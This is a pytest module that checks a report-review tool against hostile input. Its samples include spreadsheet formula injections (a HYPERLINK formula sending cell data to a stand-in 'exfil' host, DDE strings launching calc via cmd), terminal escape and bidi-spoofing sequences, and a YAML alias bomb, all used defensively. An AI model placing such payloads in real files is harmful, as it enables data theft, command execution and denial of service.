"""Hostile input, as an attacker or an unlucky copy would make it (SECURITY.md lists the threats
and points here): formulas in spreadsheet cells, terminal escapes in messages, FIFOs and devices
named like inputs, values that break Python's converters, YAML that expands or repeats itself,
stdout that cannot write Chinese, text with old line endings or mixed encodings, and inputs too
large to run. Every case ends in the contract's answer: the right result, or exit 2 with
``file:line: column: what is wrong`` before any kernel starts, quickly and without a traceback.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from policy_review import decoding, ledger, params, report_text, review as rv, spreadsheet, trends
from policy_review.errors import BadInput, Problem
from policy_review.tables import MAX_TABLE_ROWS, MAX_YAML_NODES, load_yaml, read_table

from .conftest import run_cli

REGION = "kaizhou"
CURATED = f"data/curated/{REGION}"
REPORTS = f"data/reports/{REGION}"
#: Every case must answer within this (a hang is the failure these tests look for).
QUICK = 60
LONG_NAME = "k" * 300


def cli(root: Path, *args: str, env: dict | None = None, timeout: int = QUICK) -> subprocess.CompletedProcess:
    """``policy-review`` in a subprocess in ``root``, with extra environment variables."""
    if env is None:
        return run_cli(*args, env_root=root, timeout=timeout)
    full = {**os.environ, "POLICY_REVIEW_ROOT": str(root), **env}
    return subprocess.run([sys.executable, "-m", "policy_review.cli", *args], capture_output=True,
                          text=True, env=full, timeout=timeout, cwd=root)


def assert_bad_input(result: subprocess.CompletedProcess, *fragments: str) -> None:
    """Exit 2, no traceback, and a problem line holding every fragment."""
    assert "Traceback" not in result.stderr, result.stderr[-2000:]
    assert result.returncode == 2, result.stderr[-2000:]
    lines = result.stderr.splitlines()
    assert lines[-1].startswith("policy-review: "), lines[-1:]
    assert any(all(f in line for f in fragments) for line in lines[:-1]), \
        f"no line with {fragments}:\n{result.stderr[:2000]}"


def edit_table(root: Path, name: str, row: int, **cells: str) -> int:
    """Set cells of data row ``row`` of a curated table; the file line the row is on."""
    path = root / CURATED / f"{name}.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    for column, value in cells.items():
        rows[row + 1][rows[0].index(column)] = value
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)  # CR quoted too
    path.write_text(buffer.getvalue(), encoding="utf-8", newline="")
    return row + 2  # the shipped tables' rows are one line each


# --- spreadsheets: every text cell is text, never a formula ------------------------------------

INJECTIONS = {
    "=": '=HYPERLINK("http://127.0.0.1:9/exfil?d="&B2,"x")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C notepad'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def workbook_cells(path: Path) -> list:
    book = openpyxl.load_workbook(path)
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


@pytest.mark.parametrize("start", sorted(INJECTIONS))
def test_curated_text_is_text_in_the_run_spreadsheet(project_copy, tmp_path, start):
    """A formula in a curated label, problem summary or the provenance reaches the xlsx as the
    same text, never as a formula, and quote-prefixed so that Excel keeps it text."""
    attack = INJECTIONS[start]
    edit_table(project_copy, "figures", 0, label_en=attack)
    edit_table(project_copy, "issues", 0, summary_en=attack + " (issue)")
    provenance = project_copy / REPORTS / "2018.yaml"
    lines = provenance.read_text(encoding="utf-8").split("\n")
    lines = [f"title_en: {json.dumps(attack + ' Report')}" if line.startswith("title_en:") else line
             for line in lines]
    provenance.write_text("\n".join(lines), encoding="utf-8")
    assert run_cli("validate", env_root=project_copy).returncode == 0
    target = spreadsheet.write_review_workbook(rv.load_review(REGION, 2018, "en"), tmp_path / "2018.xlsx")
    cells = workbook_cells(target)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    planted = [c for c in cells if isinstance(c.value, str) and attack.strip() in c.value]
    assert {c.parent.title for c in planted} >= {"figures", "problems", "source"}
    for c in planted:
        assert c.data_type == "s" and c.quotePrefix, (c.parent.title, c.coordinate)


def test_draft_text_is_text_in_the_spreadsheet(project_copy, tmp_path):
    """A region with no curated tables (its tables are a draft made from the text alone) whose
    report has lines that start with a formula: the draft's figure labels start with it, and no
    sheet holds a formula."""
    reports = project_copy / "data/reports/other"
    reports.mkdir()
    lines = (project_copy / REPORTS / "2019.txt").read_text(encoding="utf-8").split("\n")
    attack = '=HYPERLINK("http://127.0.0.1:9/x?d="&B2,"x")共办理行政复议案件15件，'
    lines = [attack + line if n % 3 == 2 and line.strip() else line for n, line in enumerate(lines)]
    (reports / "2019.txt").write_text("\n".join(lines), encoding="utf-8")
    provenance = (project_copy / REPORTS / "2019.yaml").read_text(encoding="utf-8")
    (reports / "2019.yaml").write_text(provenance.replace("region: kaizhou", "region: other"), encoding="utf-8")
    review = rv.load_review("other", 2019, "zh")
    assert not review.curated
    cells = workbook_cells(spreadsheet.write_review_workbook(review, tmp_path / "2019.xlsx"))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    planted = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert planted and all(c.quotePrefix for c in planted)


def test_ledger_template_has_no_formula(tmp_path):
    written = ledger.write_template(tmp_path)
    xlsx = next(p for p in written if p.suffix == ".xlsx")
    assert not [c.coordinate for c in workbook_cells(xlsx) if c.data_type == "f"]


def test_text_cells_as_text_leaves_numbers_and_plain_text():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([15, -3.5, "开州区", "-", "=A1*2", "@x"])
    spreadsheet.text_cells_as_text(book)
    a, b, c, d, e, f = sheet[1]
    assert (a.data_type, b.data_type, c.data_type) == ("n", "n", "s")
    assert not c.quotePrefix and d.quotePrefix and e.quotePrefix and f.quotePrefix
    assert e.data_type == "s" and e.value == "=A1*2"


# --- control characters in messages are shown escaped ----------------------------------------


@pytest.mark.parametrize("value, shown", [
    ("\x1b[2J\x1b[Hok: no problems found", "\\x1b[2J\\x1b[Hok"),
    ("orga\u202enisation", "orga\\u202enisation"),
    ("area\nfake.csv:1: -: all good", "area\\nfake.csv"),
    ("\x9b31m\x07", "\\x9b31m\\x07"),
])
def test_control_characters_in_a_cell_are_shown_escaped(project_copy, value, shown):
    line = edit_table(project_copy, "evidence", 0, area_id=value)
    result = run_cli("validate", CURATED, env_root=project_copy)
    assert_bad_input(result, f"{CURATED}/evidence.csv:{line}: area_id:", shown)
    raw = {ch for ch in value if not ch.isprintable()}
    assert not raw & set(result.stderr.replace("\n", "")), "control characters reach the terminal"
    assert result.stderr.count("\n") == len(result.stderr.splitlines())


def test_control_characters_in_a_params_key_are_shown_escaped(project_copy):
    bad = project_copy / "params" / "bad.yaml"
    bad.write_text("region: kaizhou\nyear: 2018\n\u202elang\u202c: en\n", encoding="utf-8")
    result = run_cli("run", "params/bad.yaml", "--out", "out", env_root=project_copy)
    assert_bad_input(result, "params/bad.yaml:3: \\u202elang\\u202c: unknown parameter")
    assert "\u202e" not in result.stderr


def test_problem_line_escapes_file_column_and_message():
    problem = Problem("data/x\x1b.csv", "bad \x1b[31mred\x1b[0m", 3, "col\tumn")
    assert str(problem) == "data/x\\x1b.csv:3: col\\tumn: bad \\x1b[31mred\\x1b[0m"
    assert str(Problem("data/开州.csv", "“引号”与中文")) == "data/开州.csv: -: “引号”与中文"


# --- FIFOs and devices named like inputs: refused at once, never read -------------------------


@pytest.fixture
def fifo_at(project_copy):
    """Replace a file of the project copy by a FIFO nobody writes to."""
    def make(relative: str) -> str:
        path = project_copy / relative
        if path.exists():
            path.chmod(0o644)
            path.unlink()
        os.mkfifo(path)
        return relative
    return make


def test_fifo_among_params_files_does_not_hang_run(project_copy, fifo_at):
    fifo = fifo_at("params/zz-later.yaml")
    result = run_cli("run", "--out", "out", env_root=project_copy, timeout=QUICK)
    assert_bad_input(result, f"{fifo}: -: cannot read the params file", "not a regular file")
    assert not (project_copy / "out").exists()


@pytest.mark.parametrize("relative, command", [
    (f"{CURATED}/tasks.csv", "validate"),
    (f"{CURATED}/figures.csv", "run"),
    (f"{REPORTS}/2019.yaml", "validate"),
    (f"{REPORTS}/2019.txt", "validate"),
    (f"{REPORTS}/2020.txt", "run"),
    ("data/reference/areas.csv", "validate"),
])
def test_fifo_named_as_an_input_is_refused(project_copy, fifo_at, relative, command):
    fifo_at(relative)
    args = ("run", "params/kaizhou-2020.yaml", "--out", "out") if command == "run" else ("validate",)
    result = run_cli(*args, env_root=project_copy, timeout=QUICK)
    assert_bad_input(result, relative, "not a regular file")


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/null", "/dev/urandom"])
def test_device_named_as_a_report_is_refused(device):
    with pytest.raises(BadInput, match="not a regular file"):
        report_text.read_report(device)
    table, problems = read_table(device)
    assert table.empty and "not a regular file" in problems[0].message


def test_fifo_named_as_a_report_for_extract(project_copy, fifo_at):
    (project_copy / "incoming").mkdir()
    fifo = fifo_at("incoming/report.txt")
    result = run_cli("extract", fifo, env_root=project_copy, timeout=QUICK)
    assert_bad_input(result, f"{fifo}: -: cannot read the report", "not a regular file")
    assert result.stdout == ""


# --- values Python's converters refuse, names the file system refuses -------------------------


def params_file(root: Path, text: str, name: str = "bad.yaml") -> str:
    (root / "params" / name).write_text(text, encoding="utf-8")
    return f"params/{name}"


def alias_bomb(levels: int = 9, width: int = 9, key: str = "region") -> str:
    lines = ['a0: &a0 ["lol"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * width)}]" for i in range(1, levels)]
    return "\n".join(lines) + f"\n{key}: *a{levels - 1}\n"


@pytest.mark.parametrize("text, fragments", [
    ("region: kaizhou\nyear: " + "7" * 5000 + "\n", ("bad.yaml:2: -:", "a number of 5,000 characters")),
    ("region: kaizhou\nyear: 0x" + "f" * 6000 + "\n", ("bad.yaml:2: -:", "a number of 6,002 characters")),
    ("region: kaizhou\nyear: 2018\nyear: 2019\n", ("bad.yaml:3: year:", "given twice (first on line 2)")),
    ("year: 2018\nregion: kaizhou\nlang: zh\nlang: en\n", ("bad.yaml:4: lang:", "given twice")),
    (alias_bomb(), ("bad.yaml:", "expand to more than", "alias bomb")),
    (alias_bomb(levels=5, width=30, key="lang"), ("bad.yaml:", "alias bomb")),
    ("a: &a [*a]\nregion: kaizhou\nyear: 2018\n", ("bad.yaml:1: -:", "refers to the value it is inside of")),
    (f"region: {LONG_NAME}\nyear: 2018\n", ("bad.yaml:1: region:", "at most 64 characters")),
    ("region: kaizhou\nyear: 2018\nlang: " + "x" * 5000 + "\n", ("bad.yaml:3: lang:", "…)")),
])
def test_params_that_break_converters_exit_2(project_copy, text, fragments):
    result = run_cli("run", params_file(project_copy, text), "--out", "out", env_root=project_copy,
                     timeout=QUICK)
    assert_bad_input(result, *fragments)
    assert len(result.stderr) < 2000, "a huge value is quoted cut short"


def test_params_path_too_long_exits_2(project_copy):
    name = f"params/{LONG_NAME}.yaml"
    result = run_cli("run", name, "--out", "out", env_root=project_copy)
    assert_bad_input(result, name, "File name too long")


@pytest.mark.parametrize("path", [f"data/{LONG_NAME}", f"{CURATED}/{LONG_NAME}/tasks.csv"])
def test_validate_path_too_long_exits_2(project_copy, path):
    assert_bad_input(run_cli("validate", path, env_root=project_copy), "File name too long")


def test_summary_of_a_region_name_too_long_exits_2(project_copy):
    result = run_cli("summary", LONG_NAME, "2018", env_root=project_copy)
    assert_bad_input(result, "parameters: region:", "at most 64 characters")


@pytest.mark.parametrize("case", ["huge-decimal", "huge-hexadecimal", "alias-bomb", "repeated-key"])
def test_provenance_that_breaks_converters_exits_2(project_copy, case):
    path = project_copy / REPORTS / "2018.yaml"
    lines = path.read_text(encoding="utf-8").split("\n")
    field = {"huge-decimal": "report_year", "huge-hexadecimal": "index_number"}.get(case, "publisher")
    at = next(i for i, line in enumerate(lines) if line.startswith(f"{field}:"))
    if case == "huge-decimal":
        lines[at] = f"{field}: {'9' * 5000}"
        expect = (f":{at + 1}: -:", "a number of 5,000 characters")
    elif case == "huge-hexadecimal":
        lines[at] = f"{field}: 0x{'a' * 4000}"
        expect = (f":{at + 1}: -:", "a number of 4,002 characters")
    elif case == "repeated-key":
        lines.insert(at + 1, f"{field}: another publisher")
        expect = (f":{at + 2}: -:", f"the key '{field}' is given twice (first on line {at + 1})")
    else:
        lines[at] = f"{field}: *a8"
        lines = alias_bomb().split("\n")[:-2] + lines
        expect = ("alias bomb",)
    path.write_text("\n".join(lines), encoding="utf-8")
    for args in (("validate",), ("run", "params/kaizhou-2018.yaml", "--out", "out")):
        assert_bad_input(run_cli(*args, env_root=project_copy, timeout=QUICK), f"{REPORTS}/2018.yaml", *expect)


def test_yaml_loader_limits():
    assert load_yaml("x: &x {a: 1}\ny: *x\nz: [*x, *x]\n") == {"x": {"a": 1}, "y": {"a": 1}, "z": [{"a": 1}] * 2}
    wide = "a: &a [" + ", ".join(["1"] * (MAX_YAML_NODES // 2)) + "]\nb: *a\n"
    with pytest.raises(Exception, match="alias bomb"):
        load_yaml(wide)
    assert load_yaml("'1': a\n1: b\n") == {"1": "a", 1: "b"}, "different keys, not repeated ones"
    assert load_yaml("year: " + "9" * 4000) == {"year": int("9" * 4000)}


# --- stdout that cannot write Chinese ----------------------------------------------------------


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
def test_extract_on_an_ascii_stdout_writes_the_same_json(project_copy, encoding):
    report = f"{REPORTS}/2019.txt"
    plain = cli(project_copy, "extract", report, env={"PYTHONIOENCODING": encoding})
    assert plain.returncode == 0 and "Traceback" not in plain.stderr, plain.stderr[-2000:]
    assert plain.stdout.isascii()
    utf8 = cli(project_copy, "extract", report, env={"PYTHONIOENCODING": "utf-8"})
    assert json.loads(plain.stdout) == json.loads(utf8.stdout)


def test_summary_on_an_ascii_stdout(project_copy):
    env = {"PYTHONIOENCODING": "ascii"}
    text = cli(project_copy, "summary", REGION, "2018", env=env)
    assert_bad_input(text, "<stdout>: -: the output's encoding is ascii", "PYTHONIOENCODING=utf-8")
    assert text.stdout == ""
    as_json = cli(project_copy, "summary", REGION, "2019", "--json", env=env)
    assert as_json.returncode == 0, as_json.stderr[-2000:]
    assert json.loads(as_json.stdout)["region"] == REGION


def test_validate_on_an_ascii_stdout_and_stderr(project_copy):
    env = {"PYTHONIOENCODING": "ascii"}
    assert cli(project_copy, "validate", env=env).returncode == 0
    edit_table(project_copy, "issues", 0, area_id="法治")
    result = cli(project_copy, "validate", env=env)
    assert_bad_input(result, f"{CURATED}/issues.csv:2: area_id:", "\\u6cd5\\u6cbb")


# --- line endings, mixed encodings --------------------------------------------------------------


@pytest.mark.parametrize("name", [f"{REPORTS}/2018.txt", f"{REPORTS}/2019.txt", "data/reports/example/2021.txt"])
def test_cr_only_line_endings_review_like_lf(project_copy, name):
    from policy_review.extract import extract_report_file

    lf = (project_copy / name).read_text(encoding="utf-8").replace("\r\n", "\n")
    (project_copy / "lf.txt").write_bytes(lf.encode("utf-8"))
    (project_copy / "cr.txt").write_bytes(lf.replace("\n", "\r").encode("utf-8"))
    text, _ = report_text.read_report(project_copy / "cr.txt")
    assert text == lf
    from_cr = extract_report_file(project_copy / "cr.txt")
    from_lf = extract_report_file(project_copy / "lf.txt")
    assert from_cr["sections"] and from_cr["figures"]
    assert {k: v for k, v in from_cr.items() if k != "source"} == {k: v for k, v in from_lf.items() if k != "source"}
    raw = (project_copy / "cr.txt").read_bytes().decode("utf-8")
    for figure in from_cr["figures"]:
        assert raw[figure["start"]:figure["end"]] == figure["raw"], "offsets into the file's text"


def test_cr_only_region_report_validates_and_reviews(project_copy):
    path = project_copy / REPORTS / "2018.txt"
    lf = path.read_text(encoding="utf-8")
    path.chmod(0o644)
    path.write_bytes(lf.replace("\n", "\r").encode("utf-8"))
    assert run_cli("validate", env_root=project_copy).returncode == 0
    review = rv.load_review(REGION, 2018)
    assert len(review.figures) > 10 and review.text == lf


def mixed(text: str, line: int, words: str) -> bytes:
    """GB18030 text with ``words`` pasted into line ``line`` (1-based) as UTF-8."""
    lines = text.split("\n")
    before = "\n".join(lines[:line - 1]) + "\n" + lines[line - 1][:6]
    after = lines[line - 1][6:] + "\n" + "\n".join(lines[line:])
    return before.encode("gb18030") + words.encode("utf-8") + after.encode("gb18030")


@pytest.mark.parametrize("name, nth, words", [
    ("kaizhou/2018.txt", 3, "复议"),
    ("kaizhou/2018.txt", 20, "法治政府"),
    ("kaizhou/2019.txt", 2, "依法行政"),
    ("example/2022.txt", 10, "行政执法"),
])
def test_utf8_inside_gb18030_is_flagged_with_its_line(project_copy, name, nth, words):
    """Chinese words pasted as UTF-8 into the ``nth`` paragraph of a GB18030 report."""
    text = (project_copy / "data/reports" / name).read_text(encoding="utf-8")
    line = [n for n, para in enumerate(text.split("\n"), start=1) if len(para) > 20][nth]
    target = project_copy / "incoming.txt"
    target.write_bytes(mixed(text, line, words))
    result = run_cli("extract", "incoming.txt", env_root=project_copy)
    assert_bad_input(result, f"incoming.txt:{line}: -:", "mixes encodings")
    assert result.stdout == ""


def test_plain_gb18030_is_not_flagged(project_copy):
    for name in ("kaizhou/2018.txt", "kaizhou/2019.txt", "kaizhou/2020.txt", "example/2021.txt",
                 "example/2022.txt"):
        text = (project_copy / "data/reports" / name).read_text(encoding="utf-8")
        decoded = decoding.sniff(text.encode("gb18030"))
        assert decoded.encoding == "gb18030" and decoded.suspicious is None, name


@pytest.mark.parametrize("ch", ["\ue000", "\uf8ff", "\ufffd", "\U000f0001"])
def test_private_use_or_replacement_character_is_flagged(tmp_path, ch):
    text = "法治政府建设年度报告\n一、主要工作\n依法行政" + ch + "全面推进\n"
    path = tmp_path / "r.txt"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(BadInput) as caught:
        report_text.read_report(path)
    (problem,) = caught.value.problems
    assert problem.line == 3 and f"U+{ord(ch):04X}" in problem.message
    table = tmp_path / "t.csv"
    table.write_text("a,b\n1,2\n3,x" + ch + "\n", encoding="utf-8")
    _, problems = read_table(table)
    assert [(p.line, f"U+{ord(ch):04X}" in p.message) for p in problems] == [(3, True)]


def test_table_with_utf8_inside_gb18030_is_flagged(project_copy):
    path = project_copy / CURATED / "issues.csv"
    text = path.read_text(encoding="utf-8")
    path.write_bytes(mixed(text, 3, "依法行政"))
    _, problems = read_table(path)
    assert any(p.line == 3 and "mixes encodings" in p.message for p in problems), problems


# --- the notebooks' first call refuses parameters the runner would refuse ---------------------


@pytest.mark.parametrize("region, year, lang, column", [
    (REGION, 2018, "xx", "lang"),
    (REGION, "2018", "en", "year"),
    ("Kaizhou", 2018, "en", "region"),
    ("../kaizhou", 2018, "zh", "region"),
    (REGION, 1999, "en", "year"),
])
def test_load_review_refuses_bad_parameters(region, year, lang, column):
    with pytest.raises(BadInput) as caught:
        rv.load_review(region, year, lang)
    assert [p.column for p in caught.value.problems] == [column]


def test_load_trends_refuses_bad_parameters():
    with pytest.raises(BadInput, match="lang"):
        trends.load_trends(REGION, "fr")
    with pytest.raises(BadInput, match="region"):
        trends.load_trends(LONG_NAME, "en")


@pytest.mark.slow
def test_papermill_with_an_unknown_lang_fails_in_the_first_call(tmp_path):
    import papermill as pm

    notebook = Path(__file__).resolve().parents[1] / "notebooks" / "year_review.ipynb"
    with pytest.raises(pm.PapermillExecutionError) as caught:
        pm.execute_notebook(str(notebook), str(tmp_path / "out.ipynb"), parameters={"lang": "xx"},
                            kernel_name="python3", progress_bar=False, cwd=str(notebook.parent))
    assert caught.value.ename == "BadInput" and "lang" in caught.value.evalue
    executed = json.loads((tmp_path / "out.ipynb").read_text(encoding="utf-8"))
    code = [c for c in executed["cells"] if c["cell_type"] == "code"]
    ran = [c for c in code if c.get("execution_count")]
    assert "load_review" in "".join(ran[-1]["source"]), "the first call after the parameters fails"
    assert len(ran) == 3, "the parameters, the injected parameters and the first call"


# --- inputs that would validate but cannot run: refused with a limit ---------------------------


def test_report_with_an_absurdly_long_line_is_refused(project_copy):
    text = (project_copy / REPORTS / "2018.txt").read_text(encoding="utf-8")
    flat = text.replace("\n", "") * 4
    assert len(flat) > report_text.MAX_LINE_CHARS
    (project_copy / "flat.txt").write_text("标题\n" + flat + "\n", encoding="utf-8")
    result = run_cli("extract", "flat.txt", env_root=project_copy, timeout=QUICK)
    assert_bad_input(result, "flat.txt:2: -:", "characters long, over the limit of 20,000")


def test_report_over_the_size_limit_is_refused_before_it_is_read(project_copy, monkeypatch):
    monkeypatch.setattr(report_text, "MAX_REPORT_BYTES", 10_000)
    with pytest.raises(BadInput, match="over the limit of 10,000 bytes"):
        report_text.read_report(project_copy / REPORTS / "2018.txt")
    assert report_text.read_report(project_copy / REPORTS / "2019.txt")[1] == "utf-8"


def test_table_over_the_row_limit_is_refused(project_copy):
    path = project_copy / CURATED / "figures.csv"
    header, first = path.read_text(encoding="utf-8").split("\n")[:2]
    path.write_text(header + "\n" + (first + "\n") * (MAX_TABLE_ROWS + 5), encoding="utf-8")
    result = run_cli("validate", CURATED, env_root=project_copy, timeout=QUICK)
    assert_bad_input(result, f"{CURATED}/figures.csv:{MAX_TABLE_ROWS + 2}: -:",
                     f"more than {MAX_TABLE_ROWS:,} rows")


def test_params_problem_messages_stay_short():
    assert params.shown(10 ** 4000).endswith("…") and len(params.shown(10 ** 4000)) == 80
    assert params.shown("kaizhou") == "'kaizhou'"
